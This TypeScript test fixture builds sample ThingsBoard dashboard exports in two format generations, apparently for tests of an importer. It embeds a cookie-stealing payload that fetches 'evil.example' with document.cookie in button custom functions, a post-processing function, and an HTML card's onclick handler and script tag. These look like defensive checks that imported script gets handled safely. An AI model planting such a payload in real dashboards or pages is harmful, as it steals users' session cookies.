/** Exports as ThingsBoard writes them, in both generations; written for these tests. */

const script = 'fetch("https://evil.example/" + document.cookie)';

const button = (name: string, icon: string, type = 'customPretty') => ({
  ...{ id: `${name}-button`, name, icon, type },
  ...{ customHtml: '<form>{{x}}</form>', customCss: '.x{}', customFunction: script },
});

export const newExport = {
  title: 'Greenhouse',
  image: null,
  mobileHide: false,
  configuration: {
    description: 'What grows where.',
    widgets: {
      'w-table': {
        typeFullFqn: 'system.cards.entities_table',
        type: 'latest',
        sizeX: 7.5,
        sizeY: 6,
        config: {
          title: 'New Entities table',
          settings: {
            entitiesTitle: 'Sensors of ${entityName}',
            displayEntityName: true,
            entityNameColumnTitle: 'Sensor',
            displayEntityLabel: true,
            displayEntityType: false,
            defaultPageSize: 25,
            defaultSortOrder: '-createdTime',
            enableSearch: false,
          },
          datasources: [
            {
              type: 'entity',
              entityAliasId: 'a-type',
              dataKeys: [
                { name: 'place', type: 'attribute', label: 'Place' },
                { name: 'createdTime', type: 'entityField', label: 'Since' },
                { name: 'temperature', type: 'timeseries', label: 'Temperature' },
                {
                  ...{ name: 'online', type: 'attribute', label: 'Online' },
                  ...{ usePostProcessing: true, postFuncBody: script },
                },
              ],
            },
          ],
          actions: {
            headerButton: [button('Add sensor', 'add'), button('Help', 'help', 'openDashboard')],
            actionCellButton: [
              button('Edit', 'mode_edit'),
              button('Remove', 'mdi:trash-can', 'custom'),
              button('Chart', 'show_chart', 'openDashboardState'),
              button('Delete all', 'add'),
            ],
            rowClick: [button('Open', 'more_horiz', 'custom')],
          },
        },
      },
      'w-count': {
        typeFullFqn: 'system.cards.entity_count',
        type: 'latest',
        config: {
          title: 'How many',
          settings: {},
          datasources: [
            {
              type: 'entityCount',
              entityAliasId: 'a-name',
              dataKeys: [{ name: 'count', type: 'count', label: 'assets' }],
            },
          ],
        },
      },
      'w-html': {
        typeFullFqn: 'system.cards.html_card',
        type: 'static',
        config: {
          title: 'About',
          settings: {
            cardHtml: `<h2 onclick="${script.replaceAll('"', "'")}">Hi</h2><script>${script}</script><p>Water it.</p>`,
            cardCss: 'h2 { position: fixed }',
          },
        },
      },
      'w-chart': {
        typeFullFqn: 'system.time_series_chart',
        type: 'timeseries',
        config: { title: 'Humidity', settings: {}, datasources: [] },
      },
      'w-details': {
        typeFullFqn: 'system.cards.entities_table',
        type: 'latest',
        config: { title: 'Details', settings: {}, datasources: [] },
      },
    },
    states: {
      details: {
        root: false,
        layouts: { main: { widgets: { 'w-details': { sizeX: 24, sizeY: 6, row: 0, col: 0 } } } },
      },
      default: {
        root: true,
        layouts: {
          main: {
            gridSettings: { columns: 12 },
            widgets: {
              'w-html': { sizeX: 4, sizeY: 2, row: 3, col: 0 },
              'w-table': { sizeX: 8, sizeY: 6, row: 0, col: 4 },
              'w-count': { sizeX: 4, sizeY: 3, row: 0, col: 0 },
              'w-chart': { sizeX: 12, sizeY: 4, row: 6, col: 0 },
            },
          },
        },
      },
    },
    entityAliases: {
      'a-type': {
        id: 'a-type',
        alias: 'Sensors',
        filter: { type: 'deviceType', deviceTypes: ['sensor', 'meter'], deviceNameFilter: 'S%' },
      },
      'a-name': {
        id: 'a-name',
        alias: 'Beds',
        filter: { type: 'entityName', entityType: 'ASSET', entityNameFilter: 'Bed' },
      },
    },
  },
  name: 'Greenhouse',
};

export const oldExport = {
  title: 'Pumps',
  configuration: {
    widgets: [
      {
        isSystemType: true,
        bundleAlias: 'cards',
        typeAlias: 'entities_table',
        type: 'latest',
        title: 'Entities table',
        ...{ sizeX: 12, sizeY: 5, row: 2, col: 6 },
        config: {
          title: 'Pumps',
          settings: { displayEntityType: true, defaultPageSize: 3, defaultSortOrder: 'pressure' },
          datasources: [
            {
              type: 'device',
              deviceAliasId: '1',
              dataKeys: [{ name: 'serial', type: 'attribute', label: 'Serial' }],
            },
          ],
          actions: { headerButton: [button('Create', 'add_circle')] },
        },
      },
      {
        isSystemType: true,
        bundleAlias: 'gauges',
        typeAlias: 'simple_gauge_justgage',
        type: 'latest',
        ...{ sizeX: 6, sizeY: 5, row: 2, col: 0 },
        config: { title: 'Pressure', datasources: [] },
      },
    ],
    deviceAliases: {
      1: { alias: 'Pumps', deviceFilter: { useFilter: true, deviceNameFilter: 'P' } },
    },
    gridSettings: { columns: 24 },
  },
};

/** A file with one table on one alias. */
export const exportWithAlias = (filter: object, former: object = {}): string =>
  JSON.stringify({
    title: 'Alias',
    configuration: {
      widgets: {
        w: {
          typeFullFqn: 'system.cards.entities_table',
          config: {
            settings: {},
            datasources: [{ type: 'entity', entityAliasId: 'a', dataKeys: [] }],
          },
        },
      },
      entityAliases: {
        a: { alias: 'Alias', ...(Object.keys(filter).length > 0 && { filter }), ...former },
      },
    },
  });
